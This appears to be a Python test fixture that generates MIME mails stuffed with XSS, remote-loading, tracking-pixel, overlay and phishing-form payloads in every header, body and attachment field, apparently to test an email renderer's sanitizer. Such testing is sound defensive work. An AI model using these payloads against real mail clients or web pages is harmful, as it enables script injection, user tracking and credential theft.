"""Mails that try to run, load, track or dress up: what a mail may hold, put into every field of it."""

import base64
from collections.abc import Iterator

RUN = "window.hacked=1"
ELSEWHERE = "http://elsewhere.invalid"

VECTORS = [
    f"<script>{RUN}</script>", f"<SCRIPT>{RUN}</SCRIPT>", f"<scr\0ipt>{RUN}</scr\0ipt>", f"<script\n>{RUN}</script\n>",
    f"<script src={ELSEWHERE}/x.js></script>", f"<script src='data:text/javascript,{RUN}'></script>",
    f"<<script>script>{RUN}<</script>/script>", f"<script/x>{RUN}</script>", f"</p><script>{RUN}</script>",
    f"<img src=x onerror={RUN}>", f"<img/src=x/onerror={RUN}>", f"<img src=x onerror='{RUN}'>", f'<img """><script>{RUN}</script>">',
    f"<img src={ELSEWHERE}/a.gif>", f"<img srcset='{ELSEWHERE}/b.gif 2x'>", f"<picture><source srcset={ELSEWHERE}/c.gif><img></picture>",
    f"<img src='data:image/svg+xml,<svg onload={RUN}>'>", f"<image src={ELSEWHERE}/d.gif>", f"<input type=image src={ELSEWHERE}/e.gif>",
    f"<svg onload={RUN}>", f"<svg><script>{RUN}</script></svg>", f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><image href={ELSEWHERE}/f.gif /></svg>", f"<svg><use href='{ELSEWHERE}/g.svg#x'/></svg>", f"<svg><a xlink:href='javascript:{RUN}'><text y=20>x</text></a></svg>",
    f"<svg><foreignObject><script>{RUN}</script></foreignObject></svg>", f"<svg><style>@import url({ELSEWHERE}/h.css)</style></svg>",
    f"<math><mi xlink:href='javascript:{RUN}'>x</mi></math>", f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}>",
    f"<body onload={RUN}>", f"<body background={ELSEWHERE}/i.gif>", f"<frameset onload={RUN}><frame src={ELSEWHERE}/j>",
    f"<iframe src='javascript:{RUN}'></iframe>", f"<iframe src={ELSEWHERE}/k></iframe>", f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<object data='data:text/html,<script>{RUN}</script>'></object>", f"<object data={ELSEWHERE}/l></object>", f"<embed src={ELSEWHERE}/m>",
    f"<applet code={ELSEWHERE}/n></applet>", f"<video src={ELSEWHERE}/o autoplay onerror={RUN}></video>", f"<audio src={ELSEWHERE}/p autoplay></audio>",
    f"<video poster={ELSEWHERE}/q.png></video>", f"<track src={ELSEWHERE}/r>", f"<link rel=stylesheet href={ELSEWHERE}/s.css>",
    f"<link rel=prefetch href={ELSEWHERE}/t>", f"<link rel=dns-prefetch href={ELSEWHERE}>", f"<link rel=preload as=image href={ELSEWHERE}/u.gif>",
    f"<meta http-equiv=refresh content='0;url={ELSEWHERE}/v'>", f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>", f"<base href={ELSEWHERE}/>",
    f"<style>body{{background:url({ELSEWHERE}/w.gif)}}</style>", f"<style>@import '{ELSEWHERE}/x.css';</style>", f"<p style='background:url({ELSEWHERE}/y.gif)'>x</p>",
    "<style>header.site{display:none}.post{position:fixed;inset:0}</style>", f"<div style='position:fixed;inset:0;z-index:9'><a href={ELSEWHERE}/login>Sign in</a></div>",
    "<p style='width:expression(window.hacked=1)'>x</p>", f"<p style='behavior:url({ELSEWHERE}/z.htc)'>x</p>", f"<xss style='animation-name:x' onanimationstart={RUN}></xss>",
    f"<a href='javascript:{RUN}'>x</a>", f"<a href='  javascript:{RUN}'>x</a>", f"<a href='java\tscript:{RUN}'>x</a>", f"<a href='&#106;avascript:{RUN}'>x</a>",
    f"<a href='JaVaScRiPt:{RUN}'>x</a>", f"<a href='vbscript:{RUN}'>x</a>", f"<a href='data:text/html,<script>{RUN}</script>'>x</a>", f"<a href='\x01javascript:{RUN}'>x</a>",
    f"<form action='javascript:{RUN}'><button>x</button></form>", f"<form action={ELSEWHERE}/aa method=post><input name=password autofocus></form>",
    f"<button formaction='javascript:{RUN}'>x</button>", f"<isindex action='javascript:{RUN}'>", f"<input autofocus onfocus={RUN}>", f"<select autofocus onfocus={RUN}></select>",
    f"<textarea autofocus onfocus={RUN}></textarea>", f"<details open ontoggle={RUN}>x</details>", f"<marquee onstart={RUN}>x</marquee>", f"<p onmouseover={RUN} tabindex=0 onfocus={RUN}>x</p>",
    f"<template><script>{RUN}</script></template>", f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>", f"<title><img src=x onerror={RUN}></title>",
    f"<textarea><img src=x onerror={RUN}></textarea>", f"<xmp><img src=x onerror={RUN}></xmp>", f"<plaintext><img src=x onerror={RUN}>", f"<!--><img src=x onerror={RUN}>-->",
    f"<![CDATA[<img src=x onerror={RUN}>]]>", f"<?xml-stylesheet href='javascript:{RUN}'?>", f"<comment><img src=x onerror={RUN}></comment>", f"<div id=main name=main><script>{RUN}</script>",
    f"'\"><script>{RUN}</script>", f"' onfocus={RUN} autofocus x='", f'" onfocus={RUN} autofocus x="', f"{{{{ {RUN} }}}}", "{% debug %}", f"${{{RUN}}}", f"`-{RUN}-`", f"javascript:{RUN}",
    "\u202e<b>evil\u202c", "\ufeff<script>window.hacked=1</script>", f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-", f"%3Cscript%3E{RUN}%3C/script%3E",
]  # fmt: skip
"""Each is put into the HTML text, the plain text, the subject, the author's name, a file's name and the Message-ID."""


def word(text: str) -> str:
    """An encoded-word: it brings any character into a header."""
    return f"=?utf-8?B?{base64.b64encode(text.encode()).decode()}?="


def mails() -> Iterator[bytes]:
    """A conversation in which each mail carries one of the vectors wherever it can."""
    for number, vector in enumerate(VECTORS):
        kind = "html" if number % 2 else "plain"
        fields = [
            f"From: {word(vector)} <a{number}@example.com>", f"Subject: {word(f'Ants {vector}')}",
            f"Message-ID: <{number}.{''.join(c for c in vector if c.isprintable() and c not in '<> ')}@example.com>",
            "Date: Sun, 1 Mar 2026 00:00:00 +0000", 'Content-Type: multipart/mixed; boundary="b"', "MIME-Version: 1.0",
        ]  # fmt: skip
        if number:
            fields.append("References: <root@example.com>")
        parts = [
            f"Content-Type: text/{kind}; charset=utf-8\n\n{vector}\n\n> {vector}\n\nhttp://example.org/{vector}\n",
            f"Content-Type: image/svg+xml\nContent-Disposition: attachment; filename*=utf-8''{vector.encode().hex()}\n\n"
            f"<svg xmlns='http://www.w3.org/2000/svg' onload='{RUN}'/>",
            f'Content-Type: text/html\nContent-Disposition: attachment; filename="{word(vector)}.html"\n\n{vector}',
            f"Content-Type: image/png\nContent-ID: <cid{number}>\n\n<script>{RUN}</script>",
        ]
        body = "".join(f"--b\n{part}\n" for part in parts) + "--b--\n"
        yield "\n".join([*fields, "", body]).encode("utf-8", "replace")
